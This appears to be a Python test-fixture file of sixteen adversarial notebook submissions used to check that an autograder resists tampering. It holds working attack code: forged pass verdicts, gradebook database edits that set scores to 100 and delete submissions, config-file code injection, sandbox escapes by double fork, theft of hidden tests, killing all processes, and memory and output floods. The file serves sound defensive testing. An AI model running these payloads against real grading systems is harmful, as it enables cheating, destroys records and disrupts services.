"""Submissions written to attack the grader: each is a blank notebook plus one attack.

Every one must score 0 and change nothing outside its own grading (see
tests/test_grading_attacks.py). ``{course}`` and ``{marker}`` in the code are
(and ``{port}``) are replaced by the course's absolute path and a string to look for afterwards:
the attacks know where the course is, as a real attacker could guess it.
"""

# 1. Forge the verdict: make every JSON object the process sends say "passed".
JSON_ENCODE = '''
import json
_encode = json.JSONEncoder.encode
def encode(self, o):
    if isinstance(o, dict):
        o = dict(o, passed=True, reason="passed", message="", found=True, value=True)
    return _encode(self, o)
json.JSONEncoder.encode = encode
'''

# 2. Reach the grading machinery through a bound method in the namespace, then answer every
#    question (and write verdict lines to every file descriptor) itself.
DISPLAY_SELF = '''
import json, os
grader = getattr(display, "__self__")
def handle(request):
    return {"value": True, "found": True, "passed": True, "reason": "passed"}
grader.handle = handle
for index in range(30):
    line = json.dumps({"event": "verdict", "index": index, "passed": True, "reason": "passed",
                       "message": "", "nonce": "x", "ready": True}) + "\\n"
    for fd in range(1, 30):
        try:
            os.write(fd, line.encode())
        except OSError:
            pass
'''

# 3. Hide a thread left running (task 1 is solved, so only the thread costs its points).
IS_ALIVE = '''
import threading, time
threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
threading.Thread.is_alive = lambda self: False
threading.enumerate = lambda: [threading.main_thread()]
threading.active_count = lambda: 1
'''

# 4. (assignment 08, task 3) keep the race, and make the tally lie about its count.
LYING_DICT = '''
class Tally(dict):
    def __getitem__(self, key):
        return 6
    def get(self, key, default=None):
        return 6
    def items(self):
        return [("count", 6)]
    def __eq__(self, other):
        return True


def build_safe_tally():
    tally = Tally(count=0)

    def read_count(sale):
        return (sale, dict.__getitem__(tally, "count"))

    def write_count(pair):
        sale, seen = pair
        dict.__setitem__(tally, "count", seen + 1)

    edges = []
    for shop in ("north", "south"):
        sales = Source(fn=ListSource(items=[f"{shop}_{i}" for i in range(3)]).run, name=shop)
        read = Transform(fn=read_count, name=f"read_{shop}")
        edges += [(sales, read), (read, Sink(fn=write_count, name=f"write_{shop}"))]
    return network(edges), tally
'''

# 5. Write to the course: through /proc/<parent>/cwd, and by its absolute path.
COURSE_WRITES = '''
import glob, os, sqlite3
places = ["{course}"]
for pid in os.listdir("/proc"):
    try:
        places.append(os.readlink(f"/proc/{pid}/cwd"))
    except OSError:
        pass
hits = []
for place in places:
    for path in glob.glob(place + "/**/*", recursive=True):
        try:
            if path.endswith("gradebook.db"):
                db = sqlite3.connect(path)
                db.execute("UPDATE grade SET manual_score = 100")
                db.execute("DELETE FROM submitted_assignment")
                db.commit()
            elif path.endswith("nbgrader_config.py"):
                with open(path, "a") as f:
                    f.write("\\nopen('{marker}', 'w').write('ran')\\n")
            elif path.endswith(".ipynb") or path.endswith(".html"):
                with open(path, "w") as f:
                    f.write("{}  plagiarism detected: {marker}")
            hits.append(path)
        except Exception:
            pass
print("reached:", len(hits))
'''

# 6. Outlive grading: a process in a new session, and a double fork, that later write a file.
ESCAPE = '''
import os, subprocess, sys
later = "import time; time.sleep(4); open('{course}/{marker}', 'w').write('ran')  # {marker}"
subprocess.Popen([sys.executable, "-c", later], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", later])
    os._exit(0)
'''

# 7. Steal the hidden tests: read every notebook it can find, and print what the checks send.
HIDDEN_LEAK = '''
import glob, os
for path in glob.glob("{course}/**/*.ipynb", recursive=True) + glob.glob("/**/*.ipynb", recursive=True):
    try:
        print(open(path).read())
    except Exception:
        pass
seen = []
def spy(text):
    seen.append(text)
    print("seen:", text)
    return text.upper()
word_source = Source(fn=ListSource(items=WORDS).run, name="word_source")
uppercase = Transform(fn=spy, name="uppercase")
length = Transform(fn=len, name="length")
g = network([(word_source, uppercase), (word_source, length),
             (uppercase, Sink(fn=print, name="collector_upper")),
             (length, Sink(fn=print, name="collector_length"))])
'''
# ... and task 2's answer prints what task 1's hidden tests sent
HIDDEN_LEAK_2 = '''
print("what the hidden tests sent:", seen)
'''

# 8. Reach the network: a server on this machine's loopback.
NETWORK = '''
import socket
for host in ("127.0.0.1", "localhost"):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"{marker}")
    except OSError as err:
        print("no network:", err)
'''

# 9. Kill every process it may (as the grader's user this would end nbgrader itself).
KILL_ALL = '''
import os, signal
for pid in range(2, 5000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
'''

def fill(code, **values):
    """The attack's code with its placeholders ({course}, {marker}, {port}) filled in."""
    for key, value in values.items():
        code = code.replace("{" + key + "}", str(value))
    return code


ATTACKS = {
    "json_encode": JSON_ENCODE,
    "display_self": DISPLAY_SELF,
    "course_writes": COURSE_WRITES,
    "escape": ESCAPE,
    "hidden_leak": HIDDEN_LEAK,
    "network": NETWORK,
    "kill_all": KILL_ALL,
}


# --- round three: the grader's own work on what the student's code sends --------------------

# 10. A node whose params hold a list that shares its sub-lists 2**64 times (the checks look
#     at every node's params when they rebuild the network).
SHARED_PARAMS = '''
tangle = []
for _ in range(64):
    tangle = [tangle, tangle]
word_source = Source(fn=ListSource(items=WORDS).run, name="word_source")
uppercase = Transform(fn=str.lower, name="uppercase")
length = Transform(fn=len, name="length")
g = network([(word_source, uppercase), (word_source, length),
             (uppercase, Sink(fn=lambda item, tangle: None, name="collector_upper",
                              params={"tangle": tangle})),
             (length, Sink(fn=print, name="collector_length"))])
'''

# 11. The list a sink appends to, shaped that way: a failed check shows what it holds
#     (task 2 compares `results_upper` with the expected list).
SHARED_RESULTS = '''
tangle = []
for _ in range(64):
    tangle = [tangle, tangle]
results_upper, results_reverse = [tangle], []
'''

# 12. A network with 2**40 routes that lead nowhere (each ends where it began), for check.paths.
MANY_PATHS = '''
word_source = Source(fn=ListSource(items=WORDS).run, name="word_source")
hub = [Transform(fn=str, name=f"hub_{i}") for i in range(41)]
edges = [(word_source, Sink(fn=print, name="collector_upper")), (word_source, hub[0]),
         (hub[0], Sink(fn=print, name="collector_length")), (hub[40], hub[0])]
for i in range(40):
    left = Transform(fn=str, name=f"left_{i}")
    right = Transform(fn=str, name=f"right_{i}")
    edges += [(hub[i], left), (hub[i], right), (left, hub[i + 1]), (right, hub[i + 1])]
g = network(edges)
'''

# 13. A network of 2,401 nodes (the grader rebuilds networks from their descriptions).
HUGE_NETWORK = '''
word_source = Source(fn=ListSource(items=WORDS).run, name="word_source")
edges = []
for i in range(1200):
    t = Transform(fn=str, name=f"t_{i}")
    edges += [(word_source, t), (t, Sink(fn=print, name=f"s_{i}"))]
g = network(edges)
'''

# 14. A sink's result that is a number of a million digits, and a string of the maximum size.
HUGE_VALUES = '''
import sys
sys.set_int_max_str_digits(0)
word_source = Source(fn=ListSource(items=WORDS).run, name="word_source")
uppercase = Transform(fn=lambda text: "x" * 3_000_000, name="uppercase")
length = Transform(fn=lambda text: 10 ** 200_000, name="length")
g = network([(word_source, uppercase), (word_source, length),
             (uppercase, Sink(fn=print, name="collector_upper")),
             (length, Sink(fn=print, name="collector_length"))])
'''

#: attacks on the grader's own work (each must be judged within the test's time limit): the
#: answer cell each one takes, and its code
TRUSTED_WORK = {
    "shared_params": ("task1_answer", SHARED_PARAMS),
    "shared_results": ("task2_answer", SHARED_RESULTS),
    "many_paths": ("task1_answer", MANY_PATHS),
    "huge_network": ("task1_answer", HUGE_NETWORK),
    "huge_values": ("task1_answer", HUGE_VALUES),
}

# --- round three: sizes ------------------------------------------------------------------

# 15. Lift the student's process's own cap on printed output, then print 4 MB in small pieces.
OUTPUT_FLOOD = '''
import sys
for module in list(sys.modules.values()):
    if getattr(module, "OUTPUT_LIMIT", None):
        module.OUTPUT_LIMIT = 10 ** 9
for _ in range(400):   # 4 MB: forty times what a cell keeps
    print("x" * 10_000)
'''

# 16. A node name of 3 million characters (failure messages quote names).
LONG_NAME = '''
word_source = Source(fn=ListSource(items=WORDS).run, name="word_source")
uppercase = Transform(fn=str.lower, name="u" * 3_000_000)
length = Transform(fn=len, name="length")
g = network([(word_source, uppercase), (word_source, length),
             (uppercase, Sink(fn=print, name="collector_upper")),
             (length, Sink(fn=print, name="collector_length"))])
'''

SIZES = {"output_flood": OUTPUT_FLOOD, "long_name": LONG_NAME}
